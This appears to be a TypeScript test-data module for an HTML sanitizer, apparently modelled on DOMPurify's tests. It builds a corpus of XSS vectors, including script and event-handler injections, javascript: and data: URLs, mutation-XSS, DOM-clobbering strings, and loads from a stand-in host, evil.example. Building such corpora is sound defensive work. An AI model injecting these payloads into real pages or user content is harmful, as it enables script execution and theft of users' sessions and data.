/** Every payload of the corpus prints this when it runs. */
const RUN = "alert('xss')";

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onpointerenter',
  'ontoggle',
  'onanimationend',
];
const TAGS = ['img', 'svg', 'body', 'video', 'audio', 'input', 'details', 'marquee', 'iframe', 'object', 'embed', 'a'];

const URLS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#106;&#97;&#118;&#97;script:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+',
  `blob:${RUN}`,
  'file:///etc/passwd',
  'ftp://evil.example/',
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
  `<script type="module">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `</div><script>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title><img src=x onerror=${RUN}></title>`,
  `<style><img src="</style><img src=x onerror=${RUN}>">`,
];

const FOREIGN = [
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  `<table><td><math><mi><style><a title="</style><img src=x onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<select><template><style></select><img src=x onerror=${RUN}></template>`,
  `<option><style></option></select><b><img src=x onerror=${RUN}></style></option>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<a><svg><desc><b><table><a></a></table><style><img src=x onerror=${RUN}></style></b></desc></svg></a>`,
];

const FRAMES = [
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  '<iframe src="https://evil.example/"></iframe>',
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
  '<base href="https://evil.example/">',
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="javascript:${RUN}">`,
  '<link rel="import" href="https://evil.example/x.html">',
  `<form action="javascript:${RUN}"><button>Go</button></form>`,
  `<form><button formaction="javascript:${RUN}">Go</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<dialog open onclose="${RUN}">x</dialog>`,
  `<portal src="https://evil.example"></portal>`,
];

const STYLES = [
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">over everything</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  '<style>* { display: none }</style>',
  `<div style="behavior:url(#x)">x</div>`,
  `<xss style="animation-name:x" onanimationstart="${RUN}"></xss>`,
  '<font color="red" face="x">x</font>',
];

const CLOBBERS = [
  '<a id="app">x</a>',
  '<img name="getElementById" src="/media/ember-bay.svg">',
  '<form id="body"><input name="attributes"></form>',
  '<a id="__proto__"></a>',
  '<p id="main" class="x">x</p>',
  '<form><input name="childNodes"><input name="removeChild"></form>',
  '<a name="defaultView"></a>',
  '<p data-screen="recharge" data-state="x">x</p>',
  '<p aria-hidden="true" role="alert" tabindex="1" contenteditable slot="x" part="y" is="z">x</p>',
  '<p draggable="true" popover="manual" autofocus accesskey="x">x</p>',
];

const PICTURES = [
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" onload="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  '<img src="http://evil.example/x.png">',
  '<img src="//evil.example/x.png">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img srcset="https://evil.example/x.png 1x" src="/media/ember-bay.svg">',
  '<picture><source srcset="https://evil.example/x.png"><img src="/media/ember-bay.svg"></picture>',
  '<img src="/media/ember-bay.svg" width="99999999" height="1e9">',
  '<img src="/media/ember-bay.svg" usemap="#x"><map name="x"><area href="javascript:alert(1)"></map>',
];

/** At least 223 attack vectors, the number in DOMPurify's own tests. */
export const XSS_CORPUS: readonly string[] = [
  ...SCRIPTS,
  ...FOREIGN,
  ...FRAMES,
  ...STYLES,
  ...CLOBBERS,
  ...PICTURES,
  ...URLS.map((url) => `<a href="${url.replaceAll('"', '&quot;')}">press</a>`),
  ...URLS.map((url) => `<img src="${url.replaceAll('"', '&quot;')}">`),
  ...HANDLERS.map((handler) => `<p ${handler}="${RUN}" tabindex="0">x</p>`),
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} src="x" ${handler}="${RUN}" tabindex="0">x</${tag}>`)),
  ...TAGS.map(
    (tag) => `<${tag} src="x" href="x" open autofocus onerror="${RUN}" onload="${RUN}" ontoggle="${RUN}">x</${tag}>`,
  ),
];

/** Fragments that mutations combine at random. */
export const XSS_PIECES: readonly string[] = [
  ...'< > </ /> " \' ` = &lt; &gt; &quot; <!-- --> <![CDATA[ ]]> \u0000'.split(' '),
  ...'svg math style title noscript template table form select mtext mglyph p a img iframe'.split(' '),
  ...['\n', ' src=x', ` onerror=${RUN}`, ` href=javascript:${RUN}`, ' id=x', ' style=x', `<script>${RUN}</script>`],
];
